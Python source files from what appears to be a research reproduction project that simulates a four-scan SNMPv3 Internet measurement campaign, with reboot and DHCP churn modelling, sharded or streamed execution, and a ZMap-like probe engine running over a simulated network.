    """All four scans plus the per-scan ground-truth address bindings."""

    scans: dict[str, ScanResult] = field(default_factory=dict)
    bindings: dict[str, dict[IPAddress, int]] = field(default_factory=dict)
    datasets: "RouterDatasets | None" = None

    def scan_pair(self, version: int) -> tuple[ScanResult, ScanResult]:
        """The (scan 1, scan 2) pair for one address family."""
        prefix = f"v{version}"
        return self.scans[f"{prefix}-1"], self.scans[f"{prefix}-2"]


class ScanCampaign:
    """Runs the four-scan measurement campaign against a topology."""

    def __init__(
        self,
        topology: Topology,
        config: "TopologyConfig | None" = None,
        loss_probability: float = 0.02,
    ) -> None:
        self.topology = topology
        self.config = config or TopologyConfig(seed=topology.seed)
        self._rng = random.Random(topology.seed ^ 0x5CA7)
        self._fabric = NetworkFabric(
            seed=topology.seed ^ 0xFAB,
            default_profile=LinkProfile(
                loss_probability=loss_probability, base_latency=0.08, jitter=0.04
            ),
        )
        self._scanner = ZmapScanner(self._fabric, ZmapConfig())
        # address -> device id, the campaign's live view (mutated by churn).
        self._binding: dict[IPAddress, int] = {}
        self._reboot_times: dict[int, float] = {}
        self._rebooted: set[int] = set()

    # -- public -----------------------------------------------------------------

    def run(self) -> CampaignResult:
        """Execute all four scans in chronological order."""
        datasets = build_router_datasets(self.topology, self.config)
        self._bind_initial()
        self._schedule_reboots()
        result = CampaignResult(datasets=datasets)
        for label in SCAN_LABELS:
            version, start, rate = _SCHEDULE[label]
            if label.endswith("-2"):
                self._apply_churn(version)
            self._apply_due_reboots(start)
            targets = self._targets(version, datasets)
            result.bindings[label] = dict(self._binding)
            result.scans[label] = self._scanner.scan(
                targets, label=label, ip_version=version, start_time=start, rate_pps=rate
            )
        return result

    # -- setup -------------------------------------------------------------------

    def _bind_initial(self) -> None:
        for device in self.topology.devices.values():
            if not device.snmp_open:
                continue
            for interface in device.interfaces:
                if not interface.snmp_reachable:
                    continue
                self._binding[interface.address] = device.device_id
                handler = (
                    device.agent_pool.handle_datagram
                    if device.agent_pool is not None
                    else device.agent.handle_datagram
                )
                self._fabric.bind(interface.address, "udp", SNMP_PORT, handler)

    def _schedule_reboots(self) -> None:
        window_start = timeline.SCAN1_V6_START
        window_end = timeline.SCAN2_V4_START + timeline.SCAN2_V4_DURATION
        for device in self.topology.devices.values():
            if device.reboot_between_scans:
                self._reboot_times[device.device_id] = self._rng.uniform(
                    window_start, window_end
                )

    # -- interim events ------------------------------------------------------------

    def _apply_due_reboots(self, now: float) -> None:
        for device_id, when in self._reboot_times.items():
            if when <= now and device_id not in self._rebooted:
                self.topology.devices[device_id].agent.reboot(when)
                self._rebooted.add(device_id)

    def _apply_churn(self, version: int) -> None:
        """Re-address DHCP-pool devices before the family's second scan."""
        prob = _CHURN_PROB[version]
        pools: dict[int, list[IPAddress]] = {}
        for address, device_id in self._binding.items():
            device = self.topology.devices[device_id]
            if device.dhcp_pool and address.version == version \
                    and self._rng.random() < prob:
                pools.setdefault(device.asn, []).append(address)
        for asn, addresses in pools.items():
            if len(addresses) < 2:
                continue
            owners = [self._binding[a] for a in addresses]
            rotated = owners[1:] + owners[:1]
            for address, new_owner in zip(addresses, rotated):
                self._fabric.unbind(address, "udp", SNMP_PORT)
            for address, new_owner in zip(addresses, rotated):
                device = self.topology.devices[new_owner]
                self._binding[address] = new_owner
                self._fabric.bind(address, "udp", SNMP_PORT, device.agent.handle_datagram)

    # -- targets ----------------------------------------------------------------------

    def _targets(self, version: int, datasets: RouterDatasets) -> list[IPAddress]:
        if version == 4:
            # Equivalent to scanning all routable IPv4 space: unassigned
            # addresses cannot answer, so only the plan's addresses matter.
            return sorted(
                self.topology.all_addresses(4), key=int
            )
        return sorted(datasets.hitlist_targets_v6, key=int)
