"""Scan-campaign orchestration.

Reproduces the paper's measurement schedule (Table 1): two IPv6 scans on
consecutive days, then two IPv4 scans roughly a week apart.  Between the
paired scans the simulated Internet keeps living:

* devices flagged ``reboot_between_scans`` restart at a random moment in
  the campaign window (feeding the "inconsistent engine boots" filter);
* DHCP-pool CPE re-address — either swapping addresses with another
  churned device in the same AS (the same IP then answers with a
  *different* engine ID: the "inconsistent engine ID" filter) or moving
  to a fresh address (shrinking the scan-overlap set).

IPv4 scans target every address in the simulated address plan (equivalent
to probing the full routable space — unassigned addresses never answer);
IPv6 scans target the IPv6 Hitlist view only, as the paper does.

Two execution engines are available.  The default is the legacy
synchronous :class:`ZmapScanner` pass.  Passing ``workers=`` (or
``num_shards=``/``batch_size=``) selects the sharded streaming engine of
:mod:`repro.scanner.executor`, whose results are byte-identical for any
worker count at a fixed seed; :meth:`ScanCampaign.run_streaming` exposes
the same engine as an incremental per-scan observation stream.

Streamed layouts (``TopologyConfig(layout="streamed")``) change the
campaign's memory shape, not its semantics.  A
:class:`~repro.topology.lazy.LazyTopology` never materializes the world:
fabric endpoints resolve at probe time, reboot/churn events are pure
functions of ``(seed, device, address)``, dataset membership is a
per-address roll, and targets stream through the windowed executor
(``execute_stream``), so peak memory is bounded by one planning window.
An eagerly built streamed ``Topology`` takes the same code path minus
the resolver, and produces byte-identical scans — the differential
suites in ``tests/topology/test_lazy_identity.py`` and
``tests/scanner/test_streaming_campaign.py`` hold the two worlds equal.
"""

from __future__ import annotations

import multiprocessing
import random
import time
from collections import OrderedDict
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Callable, Iterator

from repro.compat import keyword_only_compat
from repro.net.addresses import IPAddress
from repro.net.faults import FaultProfile
from repro.net.transport import Handler, LinkProfile, NetworkFabric
from repro.scanner.executor import (
    ExecutionOptions,
    RetryPolicy,
    ScanExecution,
    ShardedScanExecutor,
    ShardSpec,
    StreamingScanExecution,
    _ScanParams,
)
from repro.scanner.metrics import ExecutorMetrics, ShardMetrics
from repro.scanner.pool import WorkerPool
from repro.scanner.records import ScanObservation, ScanResult
from repro.scanner.zmap import ZmapConfig, ZmapScanner
from repro.snmp.constants import SNMP_PORT
from repro.topology import timeline
from repro.topology.config import TopologyConfig
from repro.topology.datasets import (
    RouterDatasets,
    StreamedRouterDatasets,
    build_router_datasets,
)
from repro.topology.lazy import (
    CHURN_PROBABILITY,
    DeviceSlot,
    LazyTopology,
    StreamPlan,
    derive_churn_rotation,
    reboot_time,
)
from repro.topology.model import Device, Topology

#: Scan labels in chronological order.
SCAN_LABELS = ("v6-1", "v6-2", "v4-1", "v4-2")

_SCHEDULE = {
    "v6-1": (6, timeline.SCAN1_V6_START, 20000.0),
    "v6-2": (6, timeline.SCAN2_V6_START, 20000.0),
    "v4-1": (4, timeline.SCAN1_V4_START, 5000.0),
    "v4-2": (4, timeline.SCAN2_V4_START, 5000.0),
}

#: Probability that a DHCP-pool device re-addresses within the inter-scan
#: gap, per address family (6 days for IPv4, 1 day for IPv6).  One table
#: for both campaign paths: the sequential scheduler rolls it from the
#: campaign RNG, the streamed one through per-address pure functions.
_CHURN_PROB = CHURN_PROBABILITY


@dataclass
class CampaignResult:
    """All four scans plus the per-scan ground-truth address bindings."""

    scans: dict[str, ScanResult] = field(default_factory=dict)
    #: Per-scan ``address -> device id`` ground truth.  Lazy campaigns
    #: leave these empty — their ground truth is a pure function, so
    #: query ``topology.owner_of``/``binding_of`` instead of a snapshot.
    bindings: dict[str, dict[IPAddress, int]] = field(default_factory=dict)
    datasets: "RouterDatasets | StreamedRouterDatasets | None" = None
    #: Per-scan execution metrics; populated only by the sharded engine.
    metrics: dict[str, ExecutorMetrics] = field(default_factory=dict)

    def scan_pair(self, version: int) -> tuple[ScanResult, ScanResult]:
        """The (scan 1, scan 2) pair for one address family."""
        prefix = f"v{version}"
        return self.scans[f"{prefix}-1"], self.scans[f"{prefix}-2"]


@dataclass
class ScanStream:
    """One scan of a streaming campaign run, in schedule order.

    ``execution`` exposes the observation batches (consume before
    advancing to the next stream — the campaign mutates fabric bindings
    between scans) plus the execution metrics.
    """

    label: str
    ip_version: int
    started_at: float
    bindings: dict[IPAddress, int]
    execution: "ScanExecution | StreamingScanExecution"
    #: Batch observers attached via :meth:`attach_sink`.
    sinks: "list[Callable[[list[ScanObservation]], object]]" = field(
        default_factory=list
    )
    #: Campaign-installed hook run when the stream is exhausted (or
    #: abandoned): finalizes per-scan edge metrics such as derive time.
    finalize: "Callable[[], None] | None" = None

    def attach_sink(
        self, sink: "Callable[[list[ScanObservation]], object]"
    ) -> "ScanStream":
        """Mirror every consumed batch into ``sink`` (e.g. a JSONL writer).

        Lets one pass over the stream feed several consumers — the CLI
        tees batches to disk while a store ingests the same stream.  Sink
        time lands in the scan's ``ingest_time`` edge metric.
        """
        self.sinks.append(sink)
        return self

    def batches(self) -> Iterator[list[ScanObservation]]:
        iterator = self.execution.batches()
        if not self.sinks and self.finalize is None:
            return iterator
        metrics = self.execution.metrics

        def teed() -> Iterator[list[ScanObservation]]:
            try:
                for batch in iterator:
                    if self.sinks:
                        ingest_started = time.perf_counter()
                        for sink in self.sinks:
                            sink(batch)
                        metrics.ingest_time += (
                            time.perf_counter() - ingest_started
                        )
                    yield batch
            finally:
                if self.finalize is not None:
                    self.finalize()

        return teed()

    def observations(self) -> Iterator[ScanObservation]:
        for batch in self.batches():
            yield from batch


@keyword_only_compat("topology", "config", "loss_probability")
class ScanCampaign:
    """Runs the four-scan measurement campaign against a topology.

    All constructor arguments are keyword-only; the historical positional
    form ``ScanCampaign(topology, config, loss_probability)`` still works
    but emits a :class:`DeprecationWarning`.

    Execution shape is best supplied as one
    :class:`~repro.scanner.executor.ExecutionOptions` object; the flat
    keyword arguments remain as aliases for callers that predate it.
    Mixing ``options`` with any flat execution kwarg is an error.
    """

    def __init__(
        self,
        *,
        topology: "Topology | LazyTopology | None" = None,
        config: "TopologyConfig | None" = None,
        loss_probability: "float | None" = None,
        workers: "int | None" = None,
        num_shards: "int | None" = None,
        batch_size: "int | None" = None,
        fault_profile: "FaultProfile | str | None" = None,
        retry: "RetryPolicy | None" = None,
        profile: bool = False,
        options: "ExecutionOptions | None" = None,
    ) -> None:
        if topology is None:
            raise TypeError("ScanCampaign requires a topology")
        if options is None:
            options = ExecutionOptions(
                workers=workers,
                num_shards=num_shards,
                batch_size=batch_size,
                retry=retry,
                profile=profile,
                fault_profile=fault_profile,
                loss_probability=loss_probability,
            )
        elif (
            workers is not None
            or num_shards is not None
            or batch_size is not None
            or fault_profile is not None
            or retry is not None
            or profile
            or loss_probability is not None
        ):
            raise TypeError(
                "pass execution knobs either via options=ExecutionOptions(...) "
                "or as flat keyword arguments, not both"
            )
        self.topology = topology
        self._lazy = isinstance(topology, LazyTopology)
        self._streamed = (
            self._lazy or getattr(topology, "layout", "sequential") == "streamed"
        )
        if config is not None:
            self.config = config
        elif self._lazy:
            self.config = topology.config  # type: ignore[union-attr]
        elif self._streamed:
            streamed_config = getattr(topology, "stream_config", None)
            self.config = streamed_config or TopologyConfig(
                seed=topology.seed, layout="streamed"
            )
        else:
            self.config = TopologyConfig(seed=topology.seed)
        self._plan: "StreamPlan | None" = None
        if self._lazy:
            self._plan = topology.plan  # type: ignore[union-attr]
        elif self._streamed:
            self._plan = getattr(topology, "stream_plan", None)
            if self._plan is None:
                # An eagerly-built streamed Topology that lost its plan
                # attribute (e.g. crossed a pickle boundary): rebuild it —
                # the plan is a pure function of the config.
                self._plan = StreamPlan(config=self.config)
        self.options = options
        self._rng = random.Random(topology.seed ^ 0x5CA7)
        self._fabric = NetworkFabric(
            seed=topology.seed ^ 0xFAB,
            default_profile=LinkProfile(
                loss_probability=(
                    0.02
                    if options.loss_probability is None
                    else options.loss_probability
                ),
                base_latency=0.08,
                jitter=0.04,
            ),
        )
        if options.fault_profile is not None:
            self._fabric.set_fault_profile(options.fault_profile)
        self._scanner = ZmapScanner(fabric=self._fabric, config=ZmapConfig())
        # Geometry, pipeline, retry or profiling knobs imply the sharded
        # engine: the legacy scanner has no retry loop and no stage timers.
        # Streamed layouts always use it — only the executor can plan and
        # probe a target *iterator* window by window.
        self._use_executor = options.selects_executor or self._streamed
        self._executor_config = options.executor_config(topology.seed)
        # address -> device id, the campaign's live view (mutated by churn).
        self._binding: dict[IPAddress, int] = {}
        # Ground truth overlaid with the live binding, kept in sync at the
        # two binding write sites so ``owner_of`` is a single dict lookup.
        # Streamed layouts derive ownership from the plan arithmetic plus a
        # churn-override overlay instead of materializing the whole map.
        self._owner_map: dict[IPAddress, int] = (
            {} if self._streamed else topology.address_owners()  # type: ignore[union-attr]
        )
        self._stream_overrides: dict[IPAddress, int] = {}
        self._reboot_times: dict[int, float] = {}
        self._rebooted: set[int] = set()
        self._datasets: "RouterDatasets | StreamedRouterDatasets | None" = None
        # Per-family sorted target lists (sequential layout only); the
        # address plan is campaign-constant, so compute each family once.
        self._target_lists: dict[int, list[IPAddress]] = {}
        # Lazy-resolver handler cache: keeps the most recently answering
        # devices strongly referenced so the topology's canonical weak map
        # reuses one object per device across a probe window.
        self._handler_cache: "OrderedDict[int, tuple[Device, Handler]]" = (
            OrderedDict()
        )
        # Follow the lazy topology's residency cap so one knob bounds
        # both strong-reference pools; non-lazy campaigns never resolve.
        self._handler_cache_cap = (
            topology.max_resident
            if self._lazy
            else max(4096, self.config.stream_max_resident)
        )

    # -- public -----------------------------------------------------------------

    def run(self) -> CampaignResult:
        """Execute all four scans in chronological order.

        With the sharded engine selected (``workers=...``), per-scan
        :class:`ExecutorMetrics` land in ``result.metrics``.  A parallel
        run forks its worker pool once, right after campaign setup, and
        reuses it for all four scans.
        """
        result = CampaignResult()
        self._setup(result)
        with self._pool_scope() as pool:
            for label in SCAN_LABELS:
                derive_base = (
                    self.topology.derive_seconds if self._lazy else 0.0  # type: ignore[union-attr]
                )
                version, start, rate, targets = self._advance_to(label, result)
                if self._streamed:
                    execution = self._execute_scan(pool, label, version,
                                                   start, rate, targets)
                    result.scans[label] = execution.result()
                    result.metrics[label] = execution.metrics
                    if self._lazy:
                        execution.metrics.derive_time = (
                            self.topology.derive_seconds - derive_base  # type: ignore[union-attr]
                        )
                elif self._use_executor:
                    execution = self._make_executor(pool).execute(
                        targets, label=label, ip_version=version,
                        start_time=start, rate_pps=rate,
                    )
                    result.scans[label] = execution.result()
                    result.metrics[label] = execution.metrics
                else:
                    result.scans[label] = self._scanner.scan(
                        targets, label=label, ip_version=version,
                        start_time=start, rate_pps=rate,
                    )
        return result

    def run_streaming(self) -> Iterator[ScanStream]:
        """Yield one :class:`ScanStream` per scan, in schedule order.

        Always uses the sharded engine.  Each stream's batches must be
        consumed before requesting the next stream: the inter-scan events
        (reboots, churn) rebind fabric endpoints in place.  The worker
        pool (if any) stays alive across all four streams and shuts down
        when the generator finishes.
        """
        result = CampaignResult()
        self._setup(result)
        with self._pool_scope() as pool:
            for label in SCAN_LABELS:
                derive_base = (
                    self.topology.derive_seconds if self._lazy else 0.0  # type: ignore[union-attr]
                )
                version, start, rate, targets = self._advance_to(label, result)
                execution = self._execute_scan(
                    pool, label, version, start, rate, targets
                )
                finalize: "Callable[[], None] | None" = None
                if self._lazy:
                    topology = self.topology

                    def finalize(
                        metrics: ExecutorMetrics = execution.metrics,
                        base: float = derive_base,
                        topology: LazyTopology = topology,  # type: ignore[assignment]
                    ) -> None:
                        # Derivation happens while batches stream, so the
                        # edge is only known once this scan is drained.
                        metrics.derive_time = topology.derive_seconds - base

                yield ScanStream(
                    label=label,
                    ip_version=version,
                    started_at=start,
                    bindings=result.bindings[label],
                    execution=execution,
                    finalize=finalize,
                )

    def run_targeted(
        self,
        targets: "list[IPAddress]",
        *,
        label: str,
        ip_version: int,
        start_time: float,
        rate_pps: float = 5000.0,
    ) -> ScanResult:
        """One ad-hoc scan of an explicit target list over the campaign world.

        The service scheduler's re-probe primitive: scans exactly
        ``targets`` at virtual ``start_time`` without replaying the
        four-scan schedule.  The first call performs campaign setup
        (datasets, initial bindings, reboot schedule); reboots due by
        ``start_time`` are applied before probing, so successive targeted
        scans at increasing virtual times observe the world aging.
        Deterministic in ``(seed, targets, start_time)``.
        """
        if self._datasets is None:
            self._setup(CampaignResult())
        self._apply_due_reboots(start_time)
        if self._streamed:
            return self._make_executor().execute_stream(
                iter(targets), label=label, ip_version=ip_version,
                start_time=start_time, rate_pps=rate_pps,
            ).result()
        if self._use_executor:
            return self._make_executor(None).execute(
                list(targets), label=label, ip_version=ip_version,
                start_time=start_time, rate_pps=rate_pps,
            ).result()
        return self._scanner.scan(
            list(targets), label=label, ip_version=ip_version,
            start_time=start_time, rate_pps=rate_pps,
        )

    # -- schedule ---------------------------------------------------------------

    def _setup(self, result: CampaignResult) -> None:
        """One-time campaign setup: datasets, initial bindings, reboots.

        This is the expensive half of the schedule.  A parallel run forks
        its worker pool immediately *after* this point, so the children
        inherit the built topology state copy-on-write and only ever
        replay the cheap per-scan events themselves.

        Streamed layouts have almost nothing to set up: dataset
        membership, reboot times and churn are pure functions, and a lazy
        world resolves fabric endpoints at probe time instead of binding
        them up front.
        """
        if self._streamed:
            assert self._plan is not None
            datasets = StreamedRouterDatasets(
                seed=self.topology.seed,
                config=self.config,
                plan=self._plan,
                device_for=self._device_for_slot,
                # Lazy worlds answer dataset membership from the cheap
                # membership records; eager-streamed worlds already hold
                # every device, so the default device path is free.
                membership_for=(
                    self.topology.membership_at if self._lazy else None  # type: ignore[union-attr]
                ),
            )
            result.datasets = datasets
            self._datasets = datasets
            if self._lazy:
                self._fabric.set_resolver(self._resolve_endpoint)
            else:
                self._bind_initial()
            return
        eager_datasets = build_router_datasets(self.topology, self.config)  # type: ignore[arg-type]
        result.datasets = eager_datasets
        self._datasets = eager_datasets
        self._bind_initial()
        self._schedule_reboots()

    def _advance_to(
        self, label: str, result: CampaignResult
    ) -> "tuple[int, float, float, list[IPAddress] | Iterator[IPAddress]]":
        """Apply one scan's interim events; return its schedule and targets.

        Must be called once per label, in ``SCAN_LABELS`` order, after
        :meth:`_setup`.  Deterministic given the post-setup state: worker
        replicas forked at pool creation replay these exact events (same
        RNG stream, same order) to reconstruct per-scan state locally.
        """
        version, start, rate = _SCHEDULE[label]
        if label.endswith("-2"):
            self._apply_churn(version)
        self._apply_due_reboots(start)
        assert self._datasets is not None
        targets = self._targets(version, self._datasets)
        result.bindings[label] = dict(self._binding)
        return version, start, rate, targets

    def _scan_schedule(
        self, result: CampaignResult
    ) -> "Iterator[tuple[str, int, float, float, list[IPAddress] | Iterator[IPAddress]]]":
        """Drive the four-scan timeline: interim events, targets, bindings."""
        self._setup(result)
        for label in SCAN_LABELS:
            version, start, rate, targets = self._advance_to(label, result)
            yield label, version, start, rate, targets

    @contextmanager
    def _pool_scope(self) -> "Iterator[WorkerPool | None]":
        """A campaign-lifetime worker pool, or ``None`` on the serial path.

        Forks exactly here — after :meth:`_setup`, before the first
        scan's events — so every child holds a replica of the campaign in
        its pristine post-setup state (see :class:`_CampaignShardRunner`).
        """
        workers = self._executor_config.workers
        if (
            not self._use_executor
            or self._streamed
            # Streamed campaigns parallelize per planning window with
            # ephemeral pools: a fork-time replica of a lazy world would
            # freeze one window's resident devices for the whole run.
            or workers <= 1
            or "fork" not in multiprocessing.get_all_start_methods()
        ):
            yield None
            return
        pool = WorkerPool(workers=workers, runner=_CampaignShardRunner(self))
        try:
            yield pool
        finally:
            pool.close()

    def _make_executor(
        self, pool: "WorkerPool | None" = None
    ) -> ShardedScanExecutor:
        owner_of: "Callable[[IPAddress], int | None]"
        owner_of_batch: "Callable[[list[IPAddress]], list[int | None]]"
        if self._lazy:
            # Plan arithmetic plus the derived churn overlays; identical
            # to the eager-streamed overlay below by construction, which
            # keeps the two modes' shard plans byte-identical.
            owner_of = self.topology.owner_of  # type: ignore[union-attr]
            owner_of_batch = self.topology.owners_of  # type: ignore[union-attr]
        elif self._streamed:
            owner_of = self._stream_owner_of
            owner_of_batch = self._stream_owners_of
        else:
            owner_of = self._owner_map.get
            owner_of_batch = self._owner_map_owners

        return ShardedScanExecutor(
            fabric=self._fabric,
            devices=self.topology.devices,
            owner_of=owner_of,
            config=self._executor_config,
            zmap_config=self._scanner.config,
            pool=pool,
            owner_of_batch=owner_of_batch,
            # Lazy worlds fast-reject closed devices at the fabric, so
            # their agents keep virgin state through every shard —
            # narrowing the snapshot set to open devices skips the
            # dominant materialization cost without touching results.
            snapshot_filter=(
                self.topology.open_device_ids if self._lazy else None  # type: ignore[union-attr]
            ),
        )

    def _execute_scan(
        self,
        pool: "WorkerPool | None",
        label: str,
        version: int,
        start: float,
        rate: float,
        targets: "list[IPAddress] | Iterator[IPAddress]",
    ) -> "ScanExecution | StreamingScanExecution":
        """One scan's execution handle: windowed for streamed layouts."""
        if self._streamed:
            return self._make_executor().execute_stream(
                targets, label=label, ip_version=version,
                start_time=start, rate_pps=rate,
            )
        return self._make_executor(pool).execute(
            list(targets), label=label, ip_version=version,
            start_time=start, rate_pps=rate,
        )

    # -- setup -------------------------------------------------------------------

    @staticmethod
    def _handler_for(device: Device) -> "Callable[..., list[bytes]]":
        """The datagram handler a device answers with.

        Load-balancer VIPs answer through their :class:`AgentPool` (the
        scheduling policy picks a backend engine); everything else
        answers with its own agent.
        """
        if device.agent_pool is not None:
            return device.agent_pool.handle_datagram
        return device.agent.handle_datagram

    def _bind_initial(self) -> None:
        for device in self.topology.devices.values():
            if not device.snmp_open:
                continue
            for interface in device.interfaces:
                if not interface.snmp_reachable:
                    continue
                self._binding[interface.address] = device.device_id
                self._owner_map[interface.address] = device.device_id
                self._fabric.bind(
                    interface.address, "udp", SNMP_PORT, self._handler_for(device)
                )

    def _schedule_reboots(self) -> None:
        window_start = timeline.SCAN1_V6_START
        window_end = timeline.SCAN2_V4_START + timeline.SCAN2_V4_DURATION
        for device in self.topology.devices.values():
            if device.reboot_between_scans:
                self._reboot_times[device.device_id] = self._rng.uniform(
                    window_start, window_end
                )

    # -- interim events ------------------------------------------------------------

    def _apply_due_reboots(self, now: float) -> None:
        if self._lazy:
            # Live devices reboot now; devices derived later apply their
            # (pure-function) reboot time at materialization.
            self.topology.advance_clock(now)  # type: ignore[union-attr]
            return
        if self._streamed:
            seed = self.topology.seed
            rebooted = self._rebooted
            for device in self.topology.devices.values():
                if not device.reboot_between_scans \
                        or device.device_id in rebooted:
                    continue
                when = reboot_time(seed, device.device_id)
                if when <= now:
                    device.agent.reboot(when)
                    rebooted.add(device.device_id)
            return
        for device_id, when in self._reboot_times.items():
            if when <= now and device_id not in self._rebooted:
                self.topology.devices[device_id].agent.reboot(when)
                self._rebooted.add(device_id)

    def _apply_churn(self, version: int) -> None:
        """Re-address DHCP-pool devices before the family's second scan.

        The sequential path rolls churn from the campaign RNG over the
        live binding map; the streamed paths derive it per AS from
        per-address pure functions (:func:`derive_churn_rotation`) — the
        lazy view as an ownership overlay consulted at probe time, the
        eager-streamed world as an explicit fabric rebind — so both
        modes agree address for address.
        """
        if self._lazy:
            self.topology.activate_churn(version)  # type: ignore[union-attr]
            return
        if self._streamed:
            assert self._plan is not None
            seed = self.topology.seed
            devices = self.topology.devices
            for as_plan in self._plan.plans:
                members = (
                    devices[as_plan.device_id_base + index]
                    for index in range(as_plan.n_devices)
                )
                rotation = derive_churn_rotation(seed, version, members)
                if not rotation:
                    continue
                for address in rotation:
                    self._fabric.unbind(address, "udp", SNMP_PORT)
                for address, new_owner in rotation.items():
                    device = devices[new_owner]
                    self._binding[address] = new_owner
                    self._stream_overrides[address] = new_owner
                    self._fabric.bind(
                        address, "udp", SNMP_PORT, self._handler_for(device)
                    )
            return
        prob = _CHURN_PROB[version]
        pools: dict[int, list[IPAddress]] = {}
        for address, device_id in self._binding.items():
            device = self.topology.devices[device_id]
            if device.dhcp_pool and address.version == version \
                    and self._rng.random() < prob:
                pools.setdefault(device.asn, []).append(address)
        for asn, addresses in pools.items():
            if len(addresses) < 2:
                continue
            owners = [self._binding[a] for a in addresses]
            rotated = owners[1:] + owners[:1]
            for address, new_owner in zip(addresses, rotated):
                self._fabric.unbind(address, "udp", SNMP_PORT)
            for address, new_owner in zip(addresses, rotated):
                device = self.topology.devices[new_owner]
                self._binding[address] = new_owner
                self._owner_map[address] = new_owner
                self._fabric.bind(
                    address, "udp", SNMP_PORT, self._handler_for(device)
                )

    # -- targets ----------------------------------------------------------------------

    def _targets(
        self,
        version: int,
        datasets: "RouterDatasets | StreamedRouterDatasets",
    ) -> "list[IPAddress] | Iterator[IPAddress]":
        if self._streamed:
            assert isinstance(datasets, StreamedRouterDatasets)
            assert self._plan is not None
            if version == 4:
                # The full slot sweep — every address the plan *could*
                # assign, whether or not the owning device bound it; the
                # streamed analogue of probing the routable space.
                return self._plan.iter_v4_targets()
            return datasets.iter_hitlist_targets_v6()
        assert isinstance(datasets, RouterDatasets)
        # The target list per family is fixed for the whole campaign —
        # churn rotates owners among existing addresses, never mints new
        # ones — so both scans of a pair share one sorted list.  Safe to
        # hand out repeatedly: the shard planner copies before shuffling.
        cached = self._target_lists.get(version)
        if cached is not None:
            return cached
        if version == 4:
            # Equivalent to scanning all routable IPv4 space: unassigned
            # addresses cannot answer, so only the plan's addresses matter.
            targets = sorted(
                self.topology.all_addresses(4), key=int  # type: ignore[union-attr]
            )
        else:
            targets = sorted(datasets.hitlist_targets_v6, key=int)
        self._target_lists[version] = targets
        return targets

    # -- streamed-layout plumbing -------------------------------------------------

    def _device_for_slot(self, slot: DeviceSlot) -> Device:
        """Materialize one slot (dataset membership, churn derivation)."""
        if self._lazy:
            return self.topology.device_at(slot)  # type: ignore[union-attr]
        return self.topology.devices[slot.device_id]

    def _stream_owner_of(self, address: IPAddress) -> "int | None":
        """Eager-streamed ownership: churn overrides over plan arithmetic."""
        override = self._stream_overrides.get(address)
        if override is not None:
            return override
        assert self._plan is not None
        slot = self._plan.locate(address)
        return None if slot is None else slot.device_id

    def _stream_owners_of(
        self, addresses: "list[IPAddress]"
    ) -> "list[int | None]":
        """Batch form of :meth:`_stream_owner_of`: plan sweep + overlay."""
        assert self._plan is not None
        owners = self._plan.owner_ids(addresses)
        overrides = self._stream_overrides
        if overrides:
            override_get = overrides.get
            for position, address in enumerate(addresses):
                override = override_get(address)
                if override is not None:
                    owners[position] = override
        return owners

    def _owner_map_owners(
        self, addresses: "list[IPAddress]"
    ) -> "list[int | None]":
        """Sequential-layout batch ownership: one C-speed map over the dict."""
        return list(map(self._owner_map.get, addresses))

    def _resolve_endpoint(
        self, address: IPAddress, protocol: str, port: int
    ) -> "Handler | None":
        """Fabric resolver for lazy worlds: derive the answering device.

        Called on every delivery to an unbound address; the fabric never
        caches what we return, so residency policy lives here.  A small
        LRU of ``(device, handler)`` pairs keeps recently probed devices
        strongly referenced — the lazy topology's canonical weak map then
        guarantees that retries and multi-interface probes inside a
        window hit the *same* agent object, preserving session-state
        byte-identity with the eager world.
        """
        if protocol != "udp" or port != SNMP_PORT:
            return None
        device = self.topology.binding_of(address)  # type: ignore[union-attr]
        if device is None:
            return None
        cache = self._handler_cache
        key = device.device_id
        entry = cache.get(key)
        if entry is None or entry[0] is not device:
            entry = (device, self._handler_for(device))
            cache[key] = entry
        cache.move_to_end(key)
        while len(cache) > self._handler_cache_cap:
            cache.popitem(last=False)
        return entry[1]


class _CampaignShardRunner:
    """Worker-side campaign replayer for the persistent pool.

    Captured by the pool's children at fork time — immediately after
    :meth:`ScanCampaign._setup`, before any scan's interim events.  Each
    worker therefore owns a copy-on-write replica of the fully built
    campaign and replays the cheap per-label events (churn, reboot
    application) itself, in ``SCAN_LABELS`` order.  The replica's RNG
    state matches the parent's at fork, so the replay — bindings, fabric
    handlers, targets, shard plan — is byte-identical to the parent's own
    advance, without re-pushing any state through the task pipe.
    """

    def __init__(self, campaign: ScanCampaign) -> None:
        self._campaign = campaign
        #: Throwaway bindings sink for the replica's `_advance_to` calls.
        self._result = CampaignResult()
        self._cursor = 0
        self._scans: "dict[str, tuple[ShardedScanExecutor, list[ShardSpec], _ScanParams]]" = {}

    def _advance(self, label: str) -> None:
        campaign = self._campaign
        while True:
            if self._cursor >= len(SCAN_LABELS):
                raise KeyError(f"unknown scan label {label!r}")
            current = SCAN_LABELS[self._cursor]
            self._cursor += 1
            version, start, rate, targets = campaign._advance_to(
                current, self._result
            )
            executor = campaign._make_executor()
            execution = executor.execute(
                targets, label=current, ip_version=version,
                start_time=start, rate_pps=rate,
            )
            self._scans[current] = (executor, execution._plan, execution._params)
            if current == label:
                return

    def run_shard(
        self, scan_key: str, shard_index: int, batch_size: int
    ) -> "tuple[Iterator[list[ScanObservation]], ShardMetrics]":
        if scan_key not in self._scans:
            self._advance(scan_key)
        executor, plan, params = self._scans[scan_key]
        return executor.stream_shard(plan[shard_index], params, batch_size)
