"""The ZMap-equivalent scan engine.

Sends exactly one well-formed SNMPv3 synchronization probe per target IP
(§3.3's ethical design), in a pseudo-random target permutation, at a fixed
packet rate in virtual time, and captures every reply with its arrival
timestamp.  Replies are parsed into :class:`ScanObservation` records; the
engine never raises on malformed responses — those become observations
with ``engine_id=None``, exactly as a capture-then-parse pipeline would
record them.
"""

from __future__ import annotations

import ipaddress
import random
import zlib
from dataclasses import dataclass
from typing import Iterable

from repro.asn1 import ber
from repro.compat import keyword_only_compat
from repro.net.addresses import IPAddress
from repro.net.packet import Datagram
from repro.net.transport import NetworkFabric
from repro.scanner.records import ScanObservation, ScanResult
from repro.snmp.constants import SNMP_PORT
from repro.snmp.engine_id import EngineId
from repro.snmp.messages import build_discovery_probe, parse_discovery_response

#: Source addresses of the paper's probers: one well-connected server per
#: address family.
DEFAULT_SOURCE_V4 = ipaddress.ip_address("203.0.113.77")
DEFAULT_SOURCE_V6 = ipaddress.ip_address("2001:db8:5ca0::77")


@dataclass(frozen=True)
class ZmapConfig:
    """Engine parameters (§3.2: 5 kpps for IPv4, 20 kpps for IPv6)."""

    rate_pps: float = 5000.0
    source_v4: IPAddress = DEFAULT_SOURCE_V4
